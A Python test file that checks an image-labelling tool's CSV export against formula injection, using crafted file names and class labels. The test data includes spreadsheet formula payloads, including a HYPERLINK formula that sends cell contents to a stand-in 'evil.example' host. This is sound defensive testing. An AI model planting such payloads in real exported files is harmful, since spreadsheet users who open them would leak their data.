"""``label`` as a real process on crafted file names with a model whose classes are formulas: the CSV holds no
cell a spreadsheet would run, ``train``'s table reader gets the exact names back, ``--csv-raw`` writes them raw."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import numpy as np
from PIL import Image

from model.batch.export import FORMULA_STARTS, csv_value
from model.teach.dataset import labelled_from_table
from tests.conftest import write_random_fmnist

REPO = Path(__file__).resolve().parents[2]
ENV = {**os.environ, "OMP_NUM_THREADS": "1"}
FILES = ["=1+2.png", "-foo.png", "@x.png", "+y.png", "\ttab.png", "'=quoted.png", "plain.png"]
CLASSES = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "'=q", "=cmd", "+x", "-y", "@z"]
CLASSES.append("=A1*2")


def label(folder: Path, model: Path, out: Path, *extra: str) -> None:
    args = [sys.executable, "-m", "coatnet_gui", "label", str(folder), "--model", str(model), "--out", str(out)]
    args += ["--topk", "10", "--workers", "1", *extra]
    done = subprocess.run(args, capture_output=True, text=True, timeout=300, cwd=REPO, env=ENV)
    assert done.returncode == 0, done.stderr


def rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def test_label_writes_safe_csv_that_train_reads_back_and_raw_csv_on_request(tmp_path: Path):
    folder = tmp_path / "images"
    folder.mkdir()
    rng = np.random.default_rng(0)
    for name in FILES:
        Image.fromarray(rng.integers(0, 256, (28, 28), dtype=np.uint8)).save(folder / name, format="PNG")
    model = write_random_fmnist(tmp_path / "model", CLASSES, seed=3)
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    label(folder, model, safe)
    label(folder, model, raw, "--csv-raw")

    safe_rows, raw_rows = rows(safe), rows(raw)
    formulas = [c for row in safe_rows for c in row if c.startswith(FORMULA_STARTS)]
    assert formulas == []
    assert sorted(row[0] for row in raw_rows[1:]) == sorted(FILES)  # raw: the names as they are
    assert sum(row[1].startswith(FORMULA_STARTS) for row in raw_rows[1:]) >= 5  # top-1 classes: formulas
    assert [[csv_value(c) for c in row] for row in safe_rows] == raw_rows

    table = labelled_from_table(safe)
    got = {os.path.relpath(p, tmp_path): table.classes[i] for p, i in zip(table.paths, table.labels, strict=True)}
    assert got == {row[0]: row[1] for row in raw_rows[1:]}  # relative to the table's folder, as train reads it
    assert set(got) == set(FILES) and set(got.values()) <= set(CLASSES)
